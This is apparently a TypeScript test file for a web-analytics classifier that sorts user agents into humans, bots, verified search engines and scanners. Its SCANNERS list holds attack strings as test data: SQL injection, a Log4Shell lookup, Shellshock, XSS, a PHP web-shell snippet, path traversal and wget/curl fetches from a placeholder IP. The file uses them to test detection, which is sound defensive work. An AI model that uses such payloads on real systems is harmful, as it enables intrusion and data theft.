import crawlers from 'crawler-user-agents';
import { describe, expect, it } from 'vitest';
import { getMinProcessorTime } from '../../test/support/processor-time.js';
import { belongsTo, botName, botNames, claimedSearchEngine } from './bots.js';
import { visitorType } from './visitor-type.js';

const CHROME =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36';
const BROWSERS = [
  CHROME,
  'Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 14; SM-S921B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/25.0 Chrome/121.0.0.0 Mobile Safari/537.36',
  `${CHROME} Edg/126.0.0.0`,
  `${CHROME} OPR/111.0.0.0`,
];
/** Old browsers, and browsers of special devices. */
const OLD_BROWSERS = [
  'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; chromeframe/11.0.660.0; SLCC2; .NET CLR 2.0.50727)',
  'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; GTB7.4; chromeframe; InfoPath.2)',
  'Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)',
  'Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.0; SLCC1; .NET CLR 2.0.50727; Media Center PC 5.0; .NET CLR 3.0.04506)',
  'Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; WOW64; Trident/5.0)',
  'Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; Trident/6.0; Touch)',
  'Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko',
  'Mozilla/4.79 [en] (Windows NT 5.0; U)',
  'Mozilla/4.08 [en] (WinNT; U ;Nav)',
  'Mozilla/3.0 (compatible; NetPositive/2.1.1; BeOS)',
  'Mozilla/2.0 (compatible; MSIE 3.02; Windows CE; 240x320)',
  'Opera/9.80 (Windows NT 6.1; U; en) Presto/2.10.289 Version/12.02',
  'Opera/9.80 (J2ME/MIDP; Opera Mini/5.0/866; U; en) Presto/2.4.15',
  'Opera/9.80 (Android; Opera Mini/36.2.2254/119.132; U; id) Presto/2.12.423 Version/12.16',
  'Opera/7.54 (Windows NT 5.1; U) [pl]',
  'Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; en) Opera 8.50',
  'Nokia6100/1.0 (04.01) Profile/MIDP-1.0 Configuration/CLDC-1.0',
  'Nokia6230/2.0 (03.06) Profile/MIDP-2.0 Configuration/CLDC-1.1',
  'Mozilla/5.0 (SymbianOS/9.4; Series60/5.0 NokiaN97-1/20.0.019; Profile/MIDP-2.1 Configuration/CLDC-1.1) AppleWebKit/525 (KHTML, like Gecko) BrowserNG/7.1.18124',
  'SonyEricssonK800i/R1ED Browser/NetFront/3.3 Profile/MIDP-2.0 Configuration/CLDC-1.1',
  'SonyEricssonW995/R1EA Profile/MIDP-2.1 Configuration/CLDC-1.1 JavaPlatform/JP-8.4.2',
  'SAMSUNG-GT-S5620/S5620XEJE1 SHP/VPP/R5 Dolfin/1.5 Qtv/5.3 SMM-MMS/1.2.0 profile/MIDP-2.1 configuration/CLDC-1.1',
  'SAMSUNG-SGH-E250/1.0 Profile/MIDP-2.0 Configuration/CLDC-1.1 UP.Browser/6.2.3.3.c.1.101 (GUI) MMP/2.0',
  'LG-GC900/V10a Obigo/WAP2.0 Profile/MIDP-2.1 Configuration/CLDC-1.1',
  'LGE-VX8300/1.0 UP.Browser/6.2.3.2 (GUI) MMP/2.0',
  'MOT-V9mm/00.62 UP.Browser/6.2.3.4.c.1.123 (GUI) MMP/2.0',
  'MOT-RAZRV3/08.BD.43R MIB/2.2.1 Profile/MIDP-2.0 Configuration/CLDC-1.1',
  'BlackBerry8320/4.2.2 Profile/MIDP-2.0 Configuration/CLDC-1.1 VendorID/100',
  'BlackBerry9700/5.0.0.351 Profile/MIDP-2.1 Configuration/CLDC-1.1 VendorID/123',
  'Mozilla/5.0 (BlackBerry; U; BlackBerry 9800; en) AppleWebKit/534.1+ (KHTML, like Gecko) Version/6.0.0.337 Mobile Safari/534.1+',
  'Mozilla/5.0 (BB10; Touch) AppleWebKit/537.10+ (KHTML, like Gecko) Version/10.0.9.2372 Mobile Safari/537.10+',
  'DoCoMo/2.0 N905i(c100;TB;W24H16)',
  'DoCoMo/2.0 SH901iC(c100;TB;W24H12)',
  'KDDI-CA39 UP.Browser/6.2.0.13.1.5 (GUI) MMP/2.0',
  'SoftBank/1.0/910T/TJ001/SN123456789012345 Browser/NetFront/3.3 Profile/MIDP-2.0 Configuration/CLDC-1.1',
  'J-PHONE/3.0/J-SH06',
  'Vodafone/1.0/V802SE/SEJ001 Browser/SEMC-Browser/4.1 Profile/MIDP-2.0',
  'UCWEB/2.0 (MIDP-2.0; U; Adr 4.4.2; en-US; SM-G900) U2/1.0.0 UCBrowser/10.7.8.806 U2/1.0.0 Mobile',
  'UCWEB/2.0 (Java; U; MIDP-2.0; en-US; nokia5130c-2) U2/1.0.0 UCBrowser/9.5.0.449 U2/1.0.0 Mobile',
  'Mozilla/5.0 (Mobile; Nokia 8110 4G; rv:48.0) Gecko/48.0 Firefox/48.0 KAIOS/2.5.1',
  'Mozilla/5.0 (Mobile; rv:26.0) Gecko/26.0 Firefox/26.0',
  'Mozilla/5.0 (PlayStation 4 3.11) AppleWebKit/537.73 (KHTML, like Gecko)',
  'Mozilla/5.0 (PLAYSTATION 3; 3.55)',
  'Mozilla/4.0 (PSP (PlayStation Portable); 2.00)',
  'Mozilla/5.0 (Nintendo Switch; WebApplet) AppleWebKit/609.4 (KHTML, like Gecko) NF/6.0.2.21.3 NintendoBrowser/5.1.0.22474',
  'Opera/9.30 (Nintendo Wii; U; ; 3642; en)',
  'Mozilla/5.0 (Nintendo 3DS; U; ; en) Version/1.7552.EU',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox One) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/58.0.3029.110 Safari/537.36 Edge/16.16299',
  'Mozilla/5.0 (SMART-TV; Linux; Tizen 2.4.0) AppleWebkit/538.1 (KHTML, like Gecko) SamsungBrowser/1.1 TV Safari/538.1',
  'Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/38.0.2125.122 Safari/537.36 WebAppManager',
  'Mozilla/5.0 (Linux; U; Android 4.0.3; ko-kr; LG-L160L Build/IML74K) AppleWebkit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30',
  'Mozilla/5.0 (Linux; Android 5.0.2; SAMSUNG SM-T550 Build/LRX22G) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/3.3 Chrome/38.0.2125.102 Safari/537.36',
  'Mozilla/5.0 (iPad; U; CPU OS 3_2 like Mac OS X; en-us) AppleWebKit/531.21.10 (KHTML, like Gecko) Version/4.0.4 Mobile/7B334b Safari/531.21.10',
  'Mozilla/5.0 (Windows Phone 10.0; Android 6.0.1; Microsoft; RM-1152) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/52.0.2743.116 Mobile Safari/537.36 Edge/15.15254',
  'Mozilla/5.0 (compatible; MSIE 9.0; Windows Phone OS 7.5; Trident/5.0; IEMobile/9.0; NOKIA; Lumia 710)',
  'Mozilla/5.0 (compatible; Konqueror/4.5; FreeBSD) KHTML/4.5.4 (like Gecko)',
  'Mozilla/5.0 (X11; Linux x86_64) KHTML/5.245.0 (like Gecko) Konqueror/5 KIO/5.245',
  'Mozilla/5.0 (X11; U; Linux i686; en-US; rv:1.9.0.1) Gecko/2008071615 Fedora/3.0.1-1.fc9 Firefox/3.0.1',
  'Mozilla/5.0 (Macintosh; U; PPC Mac OS X; en) AppleWebKit/125.2 (KHTML, like Gecko) Safari/125.8',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10.13; rv:60.9) Goanna/4.1 Gecko/20100101 Firefox/60.9 PaleMoon/28.3.0',
  'Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0.0.0 Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/465.0.0.35.110;FBBV/599999;FBDV/iPhone14,5]',
  'Mozilla/5.0 (Linux; Android 13; SM-A536B Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/120.0.6099.230 Mobile Safari/537.36 Instagram 312.0.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) GSA/277.0.555192628 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 12; Cubot X50) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.104 Mobile Safari/537.36',
  'Mozilla/5.0 (Linux; Android 9; CUBOT_P30) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0.4844.58 Mobile Safari/537.36',
  'Lynx/2.9.0dev.10 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/3.7.1',
  'Links (2.25; Linux 5.19.0 x86_64; GNU C 11.2; text)',
  'ELinks/0.13.1 (textmode; Linux 5.10.0 x86_64; 80x25-2)',
  'w3m/0.5.3+git20210102',
  'Dillo/3.0.5',
  'NetSurf/3.10 (Linux)',
  'Mozilla/5.0 (Linux; U; en-us; KFTT Build/IML74K) AppleWebKit/535.19 (KHTML, like Gecko) Silk/3.4 Safari/535.19 Silk-Accelerated=true',
  'Mozilla/5.0 (Linux; U; Android 2.3.5; en-us; HTC Vision Build/GRI40) AppleWebKit/533.1 (KHTML, like Gecko) Version/4.0 Mobile Safari/533.1',
  'Mozilla/5.0 (webOS/1.4.0; U; en-US) AppleWebKit/532.2 (KHTML, like Gecko) Version/1.0 Safari/532.2 Pre/1.1',
  'Mozilla/5.0 (MeeGo; NokiaN9) AppleWebKit/534.13 (KHTML, like Gecko) NokiaBrowser/8.5.0 Mobile Safari/534.13',
  'Mozilla/5.0 (Series40; Nokia311/03.81; Profile/MIDP-2.1 Configuration/CLDC-1.1) Gecko/20100401 S40OviBrowser/2.2.0.0.31',
  'Mozilla/5.0 (X11; U; Linux armv7l; en-US) AppleWebKit/534.16 (KHTML, like Gecko) Chrome/10.0.648.204 Safari/534.16',
  'Mozilla/5.0 (OS/2; Warp 4.5; rv:45.0) Gecko/20100101 Firefox/45.0',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15',
];
const SCANNERS = [
  "' OR 1=1-- -",
  "1' or '1'='1",
  "admin' --",
  '") OR 1=1#',
  "Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36' AND SLEEP(5)--",
  `\${jndi:ldap://203.0.113.1/a}`,
  '() { :;}; /bin/bash -c id',
  '<script>alert(1)</script>',
  'Mozilla/5.0 <?php system($_GET[0]); ?>',
  '../../../../etc/passwd',
  '{{7*7}}',
  '1 UNION SELECT NULL,NULL',
  '1/**/UNION/**/ALL/**/SELECT 1',
  'if(now()=sysdate(),sleep(15),0)',
  "0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z",
  'x";cat /etc/passwd;"',
  '%0d%0aSet-Cookie:x=1',
  '|wget http://203.0.113.1/x.sh',
  '; curl http://203.0.113.1/x',
  'O:8:"stdClass":0:{}',
  'Mozilla/5.0 (X11; Linux x86_64)"><img src=x onerror=alert(1)>',
  "Googlebot/2.1'; DROP TABLE users",
  'Fuzz Faster U Fool v2.0.0-dev',
  'gobuster/3.6',
  'feroxbuster/2.10.0',
  'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
  'Morfeus Scanner',
  'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:map_codes)',
];
const PROGRAMS = [
  'containerd/v1.4',
  'MatomoTrackerSDK/4.0 (watchOS 9.0)',
  'MatomoTracker/7.2 Watch6,2 watchOS/9.1',
  'Dalvik/2.1.0 (Linux; U; Android 11; SM-A125F Build/RP1A.200720.012)',
  'ExampleApp/1.0 CFNetwork/1408.0.4 Darwin/22.5.0',
  'docker/24.0.5 go/go1.20.6',
  'git/2.39.2',
  'Mozilla/5.0',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64)',
  'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1682',
  'VLC/3.0.18 LibVLC/3.0.18',
  'AppleCoreMedia/1.0.0.20G81 (iPhone; U; CPU OS 16_6_1 like Mac OS X; en_us)',
  'Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.4266; Pro)',
  'test',
  '-',
  '你好',
  'AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
];
const GOOGLEBOT = 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)';

describe('the type of a visitor', () => {
  it('is Human for a browser', () => {
    for (const agent of BROWSERS) expect([agent, visitorType(agent, null)]).toEqual([agent, 'Human']);
  });

  it('is Human for old browsers, and for those of phones, consoles, televisions and terminals', () => {
    for (const agent of OLD_BROWSERS) expect([agent, visitorType(agent, null)]).toEqual([agent, 'Human']);
  });

  it('is Scanner for an agent that is an attack, or the name of a scanner that no list contains', () => {
    for (const agent of SCANNERS) expect([agent, visitorType(agent, null)]).toEqual([agent, 'Scanner']);
  });

  it('is Other for programs whose agent does not look like that of a browser', () => {
    for (const agent of PROGRAMS) {
      expect([agent, visitorType(agent, null)]).toEqual([agent, expect.stringMatching(/^Other(?: bot)?$/)]);
    }
  });

  it('is no attack when the agent of a browser names a language, a system or a model', () => {
    const agents = [
      'Mozilla/5.0 (Linux; U; Android 4.4.2; id; SM-G900) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30',
      'Opera/9.80 (Android; Opera Mini/36.2.2254/119.132; U; sh) Presto/2.12.423 Version/12.16',
      "Mozilla/5.0 (Linux; Android 12; moto g's 5) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0 Mobile Safari/537.36",
      'Mozilla/5.0 (Linux; Android 12; Select (2) Plus) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0 Mobile Safari/537.36',
    ];
    for (const agent of agents) expect([agent, visitorType(agent, null)]).toEqual([agent, 'Human']);
  });

  it('is Unknown without a user agent, or with an empty one', () => {
    expect([visitorType(null, null), visitorType('', null), visitorType('  ', null)]).toEqual([
      'Unknown',
      'Unknown',
      'Unknown',
    ]);
  });

  it('is the name of a bot', () => {
    const agents = {
      'curl/8.5.0': 'curl',
      'WordPress/6.5.5; https://example.com': 'WordPress',
      // As the protection “Hide WordPress Version” sends it.
      'WordPress; https://example.com': 'WordPress',
      'Wget/1.21.4': 'Wget',
      'python-requests/2.32.3': 'python-requests',
      'sqlmap/1.8#stable (https://sqlmap.org)': 'sqlmap',
      'Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)': 'AhrefsBot',
      'Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)': 'SEMrushBot',
      'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.1; +https://openai.com/gptbot)':
        'GPTBot',
      'Mozilla/5.0 (compatible; ClaudeBot/1.0; +claudebot@example.com)': 'ClaudeBot',
      'facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)': 'facebookexternalhit',
      'Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)': 'UptimeRobot',
    };
    for (const [agent, name] of Object.entries(agents))
      expect([agent, visitorType(agent, null)]).toEqual([agent, name]);
  });

  it('is not the name that an unlisted bot sends', () => {
    expect(visitorType('Zqxwv-spider/1.0 (+https://example.com)', null)).toBe('Other bot');
  });

  it('is a search engine only when DNS verified it', () => {
    expect(visitorType(GOOGLEBOT, null)).toBe('Unverified bot');
    expect(visitorType(GOOGLEBOT, 'Bing')).toBe('Unverified bot');
    expect(visitorType(GOOGLEBOT, 'Google')).toBe('Googlebot');
    expect(visitorType('Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)', 'Bing')).toBe(
      'bingbot',
    );
    expect(visitorType('Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)', 'Yandex')).toBe('YandexBot');
  });

  it('is one of a bounded number, each short and free of markup', () => {
    const types = new Set<string>();
    for (const { instances } of crawlers) for (const agent of instances) types.add(visitorType(agent, null));
    expect(types.size).toBeLessThanOrEqual(crawlers.length + 6);
    for (const type of types) expect(type).toMatch(/^[^<>&"\p{Cc}]{1,40}$/u);
  });

  it('is computed fast even for agents made to be slow', () => {
    const hostile = [
      'a/'.repeat(150),
      'Spider'.repeat(50),
      'ContextualBot'.repeat(23),
      '0'.repeat(300),
      'a 1.'.repeat(75),
      '('.repeat(300),
      `Mozilla/5.0 (${'windows '.repeat(36)}`,
      "' or ".repeat(60),
      `select ${'x '.repeat(146)}`,
      'union/*'.repeat(42),
    ];
    for (const agent of hostile) visitorType(agent, null);
    const ms = getMinProcessorTime(() => {
      for (const agent of hostile) for (let i = 0; i < 20; i++) visitorType(agent, null);
    });
    expect(ms / (hostile.length * 20)).toBeLessThan(5);
  });
});

describe('the list of bots', () => {
  it('is searched as if each entry were tried in order', () => {
    const patterns = crawlers.map(({ pattern }) => new RegExp(pattern));
    for (const { instances } of crawlers) {
      for (const agent of instances.slice(0, 2)) {
        const first = crawlers[patterns.findIndex((pattern) => pattern.test(agent))];
        expect([agent, botName(agent)]).toEqual([agent, first && botNames([first])(agent)]);
      }
    }
  });

  it('matches no browser', () => {
    for (const agent of BROWSERS) expect(botName(agent)).toBeNull();
  });
});

describe('the claim to be a search engine', () => {
  it('is read from the agent', () => {
    expect(claimedSearchEngine(GOOGLEBOT)?.name).toBe('Google');
    expect(claimedSearchEngine('AdsBot-Google (+http://www.google.com/adsbot.html)')?.name).toBe('Google');
    expect(claimedSearchEngine('Mozilla/5.0 (compatible; Baiduspider/2.0)')?.name).toBe('Baidu');
    expect(claimedSearchEngine(CHROME)).toBeNull();
    expect(claimedSearchEngine(null)).toBeNull();
  });

  it('is verified only by names in the domains that the engine publishes', () => {
    const google = claimedSearchEngine(GOOGLEBOT);
    if (google === null) throw new Error('Google is not known.');
    expect(belongsTo(google, 'crawl-66-249-66-1.googlebot.com')).toBe(true);
    expect(belongsTo(google, 'rate-limited-proxy-66-249-90-77.google.com')).toBe(true);
    expect(belongsTo(google, 'evilgooglebot.com')).toBe(false);
    expect(belongsTo(google, 'googlebot.com.example.org')).toBe(false);
    expect(belongsTo(google, '192.0.2.1.bc.googleusercontent.com')).toBe(false);
  });

  it('can’t be verified for an engine that publishes no names', () => {
    const duck = claimedSearchEngine('DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)');
    expect(duck && belongsTo(duck, 'duckduckbot.duckduckgo.com')).toBe(false);
  });
});
